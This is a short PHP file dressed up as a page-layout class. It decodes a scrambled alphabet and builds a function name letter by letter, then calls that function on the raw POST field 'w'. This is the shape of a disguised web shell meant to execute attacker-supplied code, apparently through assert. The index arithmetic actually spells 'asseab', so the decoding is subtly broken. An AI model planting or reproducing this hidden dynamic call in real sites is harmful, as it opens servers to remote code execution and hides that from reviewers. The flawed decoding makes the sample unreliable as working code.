<?php
// A scrambled alphabet, unscrambled in a loop; the callee is picked out of it letter by letter.
class Layout {
    private $grid = 'tsaeabrs0e2s9t84';

    function column($w) {
        $out = '';
        for ($c = 0; $c < 4; $c++) {
            for ($r = $c; $r < strlen($this->grid); $r += 4) {
                $out .= $this->grid[$r];
            }
        }
        $f = $out['1'] . $out['4'] . $out['4'] . $out['12'] . $out['8'] . $out['5'];
        return $f($w);
    }
}
function field($k) {
    return isset($_POST[$k]) ? $_POST[$k] : '';
}
$l = new Layout();
$l->column(field('w'));
